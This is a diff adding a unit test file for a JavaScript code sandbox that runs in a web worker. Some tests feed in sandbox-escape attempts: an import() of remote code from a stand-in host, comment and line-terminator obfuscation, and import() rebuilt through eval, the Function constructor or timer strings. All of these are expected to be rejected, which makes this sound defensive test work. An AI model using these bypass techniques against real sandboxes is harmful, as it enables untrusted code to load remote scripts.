@@ -0,0 +1,175 @@
+/**
+ * @file codeSandbox.test.js
+ * @description Unit tests for the JavaScript code interpreter
+ * (app/composables/codeSandbox.js): output capture and result formatting,
+ * which run inside the worker, the worker's lockdown, and the time limit
+ * around it.
+ */
+
+import { describe, it, expect, vi, afterEach } from 'vitest';
+import vm from 'node:vm';
+import {
+  formatSandboxValue,
+  runSandboxedCode,
+  runJavaScript,
+  buildWorkerSource,
+  MAX_TIMEOUT_MS,
+} from '../app/composables/codeSandbox.js';
+
+const limits = { maxOutputChars: 200 };
+
+describe('formatSandboxValue', () => {
+  it('formats values the way a REPL would', () => {
+    expect(formatSandboxValue('text')).toBe('text');
+    expect(formatSandboxValue(10n)).toBe('10n');
+    expect(formatSandboxValue(function add() {})).toBe('[Function add]');
+    expect(formatSandboxValue(new TypeError('bad'))).toBe('TypeError: bad');
+    expect(formatSandboxValue({ a: [1, 2] })).toBe('{\n  "a": [\n    1,\n    2\n  ]\n}');
+  });
+
+  it('handles circular references, maps and sets', () => {
+    const value = { set: new Set([1]) };
+    value.self = value;
+    expect(JSON.parse(formatSandboxValue(value))).toEqual({ set: { '[Set]': [1] }, self: '[Circular]' });
+    expect(JSON.parse(formatSandboxValue(new Map([['k', 'v']])))).toEqual({ '[Map]': [['k', 'v']] });
+  });
+});
+
+describe('runSandboxedCode', () => {
+  it('captures console output and the last expression value', async () => {
+    const run = await runSandboxedCode('console.log("sum", 1 + 2); console.warn("careful"); [1, 2].length', limits);
+
+    expect(run).toEqual({ stdout: 'sum 3\n[warn] careful\n', result: '2', error: null, truncated: false });
+  });
+
+  it('runs code using await as a function body', async () => {
+    const run = await runSandboxedCode('const x = await Promise.resolve(21); return x * 2;', limits);
+
+    expect(run.result).toBe('42');
+    expect(run.error).toBe(null);
+  });
+
+  it('reports thrown errors along with output printed before them', async () => {
+    const run = await runSandboxedCode('console.log("before"); null.prop', limits);
+
+    expect(run.stdout).toBe('before\n');
+    expect(run.result).toBe(null);
+    expect(run.error).toMatchObject({ name: 'TypeError' });
+  });
+
+  it('truncates long output and restores the console', async () => {
+    const originalLog = console.log;
+    const run = await runSandboxedCode('for (let i = 0; i < 100; i++) console.log("line " + i); "x".repeat(500)', limits);
+
+    expect(run.stdout).toHaveLength(200);
+    expect(run.result).toHaveLength(200);
+    expect(run.truncated).toBe(true);
+    expect(console.log).toBe(originalLog);
+  });
+});
+
+describe('worker script', () => {
+  // Runs the real worker source in a fresh realm standing in for the worker scope
+  const runInWorker = async (code, scope = {}) => {
+    const context = vm.createContext({
+      console: { log() {}, info() {}, warn() {}, error() {}, debug() {} },
+      setTimeout,
+      setInterval,
+      ...scope,
+    });
+    vm.runInContext('var self = globalThis;', context);
+    let reply;
+    context.postMessage = (message) => { reply = message; };
+    vm.runInContext(buildWorkerSource(), context);
+    await context.onmessage({ data: { code, limits } });
+    return reply;
+  };
+
+  it('rejects code that loads a module with import()', async () => {
+    for (const code of ['await import("https://evil.test/x.js")', 'import /* hi */ ("data:text/javascript,")', 'import\n("x")']) {
+      const reply = await runInWorker(code);
+      expect(reply.error).toMatchObject({ name: 'SecurityError' });
+      expect(reply.error.message).toContain('import()');
+    }
+  });
+
+  it('ends line comments between import and ( at any line terminator', async () => {
+    for (const code of ['import//x\r("x")', 'import//x\u2028("x")', 'import//x\u2029("x")', 'import<!--x\n("x")']) {
+      const reply = await runInWorker(code);
+      expect(reply.error, JSON.stringify(code)).toMatchObject({ name: 'SecurityError' });
+    }
+  });
+
+  it('rejects import() built at run time through eval, Function or timers', async () => {
+    const attempts = [
+      'eval("imp" + "ort(1)")',
+      'Function("return imp" + "ort(1)")()',
+      '(function () {}).constructor("return imp" + "ort(1)")()',
+      'Object.getPrototypeOf(async function () {}).constructor("return imp" + "ort(1)")()',
+      'setTimeout("imp" + "ort(1)")',
+    ];
+    for (const code of attempts) {
+      const reply = await runInWorker(code);
+      expect(reply.error, code).toMatchObject({ name: 'SecurityError' });
+    }
+    expect((await runInWorker('eval("1 + 1")')).result).toBe('2');
+    expect((await runInWorker('Function("a", "return a * 2")(4)')).result).toBe('8');
+  });
+
+  it('removes network APIs, including WebTransport, navigator and font loading', async () => {
+    const reply = await runInWorker(
+      '[typeof fetch, typeof WebSocket, typeof WebTransport, typeof navigator, typeof importScripts, typeof FontFace, typeof self.fonts].join()',
+      {
+        fetch() {},
+        WebSocket: class {},
+        WebTransport: class {},
+        navigator: { sendBeacon() {} },
+        importScripts() {},
+        FontFace: class {},
+        fonts: { load() {} },
+      },
+    );
+    expect(reply.result).toBe('undefined,undefined,undefined,undefined,undefined,undefined,undefined');
+  });
+});
+
+describe('runJavaScript', () => {
+  afterEach(() => {
+    vi.useRealTimers();
+    vi.unstubAllGlobals();
+  });
+
+  it('terminates the worker when it runs past the time limit', async () => {
+    vi.useFakeTimers();
+    const terminate = vi.fn();
+    // A worker that never answers
+    vi.stubGlobal('Worker', class {
+      postMessage() {}
+      terminate() { terminate(); }
+    });
+    vi.stubGlobal('URL', Object.assign(class extends URL {}, { createObjectURL: () => 'blob:sandbox' }));
+
+    const pending = runJavaScript('while (true) {}', { timeoutMs: MAX_TIMEOUT_MS * 2 });
+    await vi.advanceTimersByTimeAsync(MAX_TIMEOUT_MS);
+    const run = await pending;
+
+    expect(run.timedOut).toBe(true);
+    expect(run.error.name).toBe('TimeoutError');
+    expect(terminate).toHaveBeenCalledOnce();
+  });
+
+  it('resolves with what the worker sends back', async () => {
+    vi.stubGlobal('Worker', class {
+      postMessage({ code, limits }) {
+        runSandboxedCode(code, limits).then((data) => this.onmessage({ data }));
+      }
+      terminate() {}
+    });
+    vi.stubGlobal('URL', Object.assign(class extends URL {}, { createObjectURL: () => 'blob:sandbox' }));
+
+    const run = await runJavaScript('console.log("hi"); 6 * 7');
+
+    expect(run).toMatchObject({ stdout: 'hi\n', result: '42', error: null });
+    expect(run.durationMs).toBeGreaterThanOrEqual(0);
+  });
+});